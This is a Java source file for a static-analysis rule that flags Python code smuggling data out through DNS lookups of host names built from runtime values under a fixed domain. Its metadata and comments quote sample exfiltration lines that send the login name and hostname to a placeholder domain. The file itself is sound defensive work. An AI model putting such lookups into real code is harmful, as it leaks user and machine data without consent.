package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;

import java.util.Optional;
import java.util.Set;

/** Data smuggled out in DNS names: a lookup of a host name built from values and a fixed domain. */
public final class DnsExfilRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-DNS-EXFIL",
            "Looks up a DNS name built at run time under a fixed domain (data leaves in the host name), through "
                    + "a resolver call or a DNS tool run as a process (dig, nslookup, host, ping)",
            Severity.MEDIUM, Confidence.MEDIUM, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
            "socket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.collect.example.invalid')",
            "Resolving a host name held in a variable is normal and not reported; only names assembled from values "
                    + "plus a constant domain suffix are. Service-discovery code that builds names like "
                    + "'{service}.{namespace}.svc.cluster.local' can match (medium weight).");

    /** A name built from values with a constant, public-looking domain suffix (not .local, .lan, cluster names). */
    static boolean dataUnderFixedDomain(CodeFacts facts, Expr host) {
        Optional<String> template = facts.text(host);
        if (template.isEmpty() || !template.get().contains("{}")) {
            return false;
        }
        String t = template.get();
        return t.matches("(?s).*\\{}[^{}]*\\.[a-zA-Z0-9-]+\\.[a-zA-Z]{2,}\\.?$")
                && !t.matches("(?s).*\\.(local|localdomain|lan|internal|home|cluster\\.local|svc)\\.?$");
    }

    /**
     * The host name a DNS-capable call looks up when it is built from values under a fixed domain: the
     * first argument of a resolver call, or the argument of a DNS tool run as a process
     * ({@code dig}, {@code nslookup}, {@code host}, {@code ping} with {@code f"{data}.x.example.invalid"}).
     */
    static Optional<Expr> lookedUpName(CodeFacts facts, CodeFacts.CallFact c) {
        if (c.is(Capability.PROCESS)) {
            for (Expr a : Capability.commandParts(c.call())) {
                if (!(a instanceof Expr.Literal) && dataUnderFixedDomain(facts, a)) {
                    return Optional.of(a);
                }
            }
            return Optional.empty();
        }
        // d = user + '.' + host + '.collect.example.invalid'; socket.gethostbyname(d)
        Optional<Expr> host = c.call().arg(0).map(h -> facts.valueOf(c.scope(), h));
        if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
                || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
            return Optional.empty();
        }
        return dataUnderFixedDomain(facts, host.get()) ? host : Optional.empty();
    }

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CodeFacts facts = CodeFacts.of(file);
        if (!facts.fileCaps().contains(Capability.DNS)) {
            return;
        }
        for (CodeFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.DNS)) {
                continue;
            }
            if (lookedUpName(facts, c).isEmpty()) {
                continue;
            }
            boolean sourced = facts.scopeHas(c.scope(), Capability.FINGERPRINT)
                    || facts.scopeHas(c.scope(), Capability.ENV_ALL);
            sink.report(Location.of(file, c.call()), "puts run-time data into a DNS name under a fixed domain",
                    file.line(c.call().line()), sourced ? Severity.HIGH : Severity.MEDIUM,
                    sourced ? Confidence.HIGH : Confidence.MEDIUM);
        }
    }
}
